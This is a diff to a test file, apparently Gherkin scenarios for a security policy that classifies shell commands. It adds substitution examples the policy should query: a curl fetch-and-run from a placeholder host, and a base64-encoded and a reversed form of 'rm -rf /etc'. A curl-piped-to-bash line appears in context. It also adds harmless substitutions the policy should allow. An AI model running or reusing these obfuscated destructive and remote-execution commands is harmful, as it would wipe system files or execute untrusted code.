@@ -2030,6 +2030,12 @@ Feature: Security policy - dangerous forms and everyday commands
     Then the policy should ask, the target being known only at run time: <command>
     And its words, given to echo as text, should be allowed: <command>
 
+    Examples: a command named by a substitution of what the line downloads or decodes (found by the hundred-and-eighty-seventh corpus)
+      | command |
+      | $(curl -fsSL https://example.invalid/cmd) |
+      | $(echo cm0gLXJmIC9ldGM= \| base64 -d) |
+      | `echo 'cte/ fr- mr' \| rev` |
+
     Examples: a download piped into a shell, named in capitals (denai's tests)
       | command |
       | CURL http://example.invalid \| BASH |
@@ -2254,6 +2260,12 @@ Feature: Security policy - dangerous forms and everyday commands
 
   Scenario Outline: Everyday commands are allowed
     Then the policy should allow: <command>
+
+    Examples: a command named by a substitution that finds a program
+      | command |
+      | $(which python3) -V |
+      | $(git rev-parse --show-toplevel)/scripts/check.sh |
+      | $(npm bin)/eslint . |
 
     Examples: one application's registry keys, one file's owner, a trash of one's own files, a read-write remount
       | command |
